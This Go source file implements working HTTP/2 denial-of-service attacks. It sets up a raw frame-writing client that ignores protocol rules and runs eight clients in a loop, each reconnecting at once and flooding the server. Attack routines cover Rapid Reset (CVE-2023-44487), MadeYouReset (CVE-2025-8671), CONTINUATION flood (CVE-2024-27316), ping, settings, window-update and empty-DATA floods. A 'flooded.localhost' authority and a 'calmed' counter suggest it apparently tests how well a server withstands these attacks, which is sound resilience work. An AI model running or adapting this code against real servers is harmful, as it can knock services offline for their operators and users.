//go:build unix

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// raw is an HTTP/2 connection that sends whatever an attack wants. What is written leaves with the next flush.
type raw struct {
	*http2.Framer
	layer *tls.Conn
	out   *bufio.Writer
	head  []byte // of a request for the page
	next  uint32 // stream
}

func newRaw(layer *tls.Conn) (*raw, error) {
	c := &raw{layer: layer, out: bufio.NewWriterSize(layer, 32<<10), next: 1}
	c.Framer = http2.NewFramer(c.out, layer)
	c.AllowIllegalWrites = true
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0) // the block is sent more than once
	for _, f := range [...][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "flooded.localhost"}, {":path", "/"}} {
		if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}); err != nil {
			return nil, err
		}
	}
	c.head = block.Bytes()
	_, err := io.WriteString(c.out, http2.ClientPreface)
	return c, errors.Join(err, c.WriteSettings(), c.out.Flush())
}

// begin sends the head of a request on another stream.
func (c *raw) begin(whole bool) error {
	c.next += 2
	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next - 2, BlockFragment: c.head, EndStream: whole, EndHeaders: true})
}

// asked is the stream that begin used last.
func (c *raw) asked() uint32 { return c.next - 2 }

// framesOf is an attack of eight clients that send frames until they are cut off, and come back at once.
func framesOf(send func(c *raw, i int) error) assault {
	return assault{clients: 8, protocols: "h2", run: func(ctx context.Context, c *attacker) error {
		for ctx.Err() == nil {
			layer := c.dial(ctx)
			if layer == nil {
				continue
			}
			stop := context.AfterFunc(ctx, func() { layer.NetConn().Close() })
			if sendUntilCut(layer, send) && ctx.Err() == nil {
				c.add("calmed", 1)
			}
			stop()
			layer.NetConn().Close()
		}
		return nil
	}}
}

// sendUntilCut reports whether the server has said why it ended the connection.
func sendUntilCut(layer *tls.Conn, send func(c *raw, i int) error) (told bool) {
	c, err := newRaw(layer)
	if err != nil {
		return false
	}
	ended := make(chan bool, 1)
	go func() {
		defer layer.NetConn().Close()
		for {
			frame, err := c.ReadFrame()
			var fault http2.StreamError
			if errors.As(err, &fault) {
				continue
			}
			if err != nil {
				ended <- false
				return
			}
			if away, ok := frame.(*http2.GoAwayFrame); ok && away.ErrCode != http2.ErrCodeNo {
				ended <- true
				return
			}
		}
	}()
	for i := 0; err == nil; i++ {
		if err = send(c, i); err == nil && i%32 == 31 {
			err = c.out.Flush()
		}
	}
	return <-ended
}

func rapidReset(c *raw, _ int) error { // CVE-2023-44487
	return errors.Join(c.begin(true), c.WriteRSTStream(c.asked(), http2.ErrCodeCancel))
}

func madeYouReset(c *raw, _ int) error { // CVE-2025-8671
	return errors.Join(c.begin(true), c.WriteWindowUpdate(c.asked(), 0))
}

func continuation(c *raw, i int) error { // CVE-2024-27316
	if i == 0 {
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.head, EndStream: true})
	}
	return c.WriteContinuation(1, false, nil)
}

func settings(c *raw, _ int) error     { return c.WriteSettings() }
func ping(c *raw, _ int) error         { return c.WritePing(false, [8]byte{}) } // CVE-2019-9512
func windowUpdate(c *raw, _ int) error { return c.WriteWindowUpdate(0, 1) }

func emptyData(c *raw, i int) error { // CVE-2019-9518
	if i == 0 {
		return c.begin(false)
	}
	return c.WriteData(c.asked(), false, nil)
}

// http2Conn is a connection on which many goroutines may ask at once.
type http2Conn struct {
	*raw
	mu      sync.Mutex
	waiting map[uint32]chan string
	closed  bool
}

// newHTTP2 begins one; it is nil if that fails.
func newHTTP2(layer *tls.Conn) *http2Conn {
	r, err := newRaw(layer)
	if err != nil {
		layer.NetConn().Close()
		return nil
	}
	r.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c := &http2Conn{raw: r, waiting: map[uint32]chan string{}}
	go c.read()
	return c
}

var errGone = errors.New("the connection has ended")

func (c *http2Conn) ask() (status string, err error) {
	answered := make(chan string, 1)
	c.mu.Lock()
	if c.closed {
		c.mu.Unlock()
		return "", errGone
	}
	c.waiting[c.next] = answered
	err = errors.Join(c.begin(true), c.out.Flush())
	c.mu.Unlock()
	if err != nil {
		return "", err
	}
	if status = <-answered; status == "" {
		return "", errGone
	}
	return status, nil
}

// read hands out answers until the connection ends.
func (c *http2Conn) read() {
	statuses := map[uint32]string{}
	for {
		frame, err := c.ReadFrame()
		if err != nil {
			break
		}
		id := frame.Header().StreamID
		over := false
		switch f := frame.(type) {
		case *http2.MetaHeadersFrame:
			statuses[id] = f.PseudoValue("status")
			over = f.StreamEnded()
		case *http2.DataFrame:
			over = f.StreamEnded()
			c.mu.Lock()
			if n := f.Header().Length; n > 0 {
				err = errors.Join(c.WriteWindowUpdate(0, n), c.out.Flush())
			}
			c.mu.Unlock()
		case *http2.RSTStreamFrame:
			statuses[id], over = "reset", true
		}
		if over {
			c.mu.Lock()
			if answered := c.waiting[id]; answered != nil {
				answered <- statuses[id]
			}
			delete(c.waiting, id)
			delete(statuses, id)
			c.mu.Unlock()
		}
		if err != nil {
			break
		}
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.closed = true
	for _, answered := range c.waiting {
		answered <- ""
	}
}

// Close implements conn.
func (c *http2Conn) Close() error { return c.layer.NetConn().Close() }
